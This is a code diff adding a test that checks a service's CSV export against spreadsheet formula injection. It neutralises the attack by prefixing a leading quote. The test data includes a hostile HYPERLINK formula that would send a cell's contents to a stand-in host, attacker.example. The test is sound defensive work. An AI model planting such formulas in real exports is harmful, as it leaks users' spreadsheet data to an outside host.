@@ -13,6 +13,7 @@ import pytest
 from fastapi.testclient import TestClient
 
 from brainops.apikeys import create_key
+from brainops.exports import FORMULA_TRIGGERS
 from serving.app import create_app
 from serving.routes.results import MARTS
 from tests.analytics.conftest import Built
@@ -160,3 +161,31 @@ def test_customer_detail_is_enriched_from_customer_360(client: TestClient, analy
     body = client.get(f"/api/v1/customers/{customer_id}").json()
     assert Decimal(body["lifetime_value"]) == ltv and body["payment_risk_level"] == level
     assert body["stripe_customer_id"] == stripe_id and body["match_method"]
+
+
+def test_csv_export_neutralises_text_a_spreadsheet_would_run(client: TestClient, analytics: Built) -> None:
+    """A customer named like a formula comes out as text (OWASP: a leading quote); amounts stay numbers."""
+    hostile = {f"zz-injection-{i}": trigger for i, trigger in enumerate(FORMULA_TRIGGERS)}
+    with psycopg.connect(analytics.url) as conn:
+        for customer_id, trigger in hostile.items():
+            conn.execute(
+                """INSERT INTO analytics.ar_aging (customer_id, customer_name, region, open_invoices,
+                   open_receivables, not_yet_due, days_0_30, days_31_60, days_61_90, days_over_90, past_due_total,
+                   oldest_days_past_due, as_of_date)
+                   VALUES (%s, %s, %s, 1, -125.50, -125.50, 0, 0, 0, 0, 0, 0, current_date)""",
+                (customer_id, f'{trigger}HYPERLINK("http://attacker.example/?"&A2,"Acme")', f"{trigger}TX"))
+    try:
+        response = client.get("/api/v1/results/ar_aging?customer_id__gte=zz-injection-&format=csv")
+        assert response.status_code == 200
+        header, *rows = list(csv.reader(io.StringIO(response.text, newline="")))
+        got = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
+        assert set(got) == set(hostile)
+        for customer_id, trigger in hostile.items():
+            row = got[customer_id]
+            assert row["customer_name"] == f"'{trigger}HYPERLINK(\"http://attacker.example/?\"&A2,\"Acme\")"
+            assert row["region"] == f"'{trigger}TX"
+            assert row["open_receivables"] == "-125.50"  # a number, untouched
+        assert [f for row in rows for f in row if f.startswith(FORMULA_TRIGGERS) and f != "-125.50"] == []
+    finally:
+        with psycopg.connect(analytics.url) as conn:
+            conn.execute("DELETE FROM analytics.ar_aging WHERE customer_id = ANY(%s)", (list(hostile),))
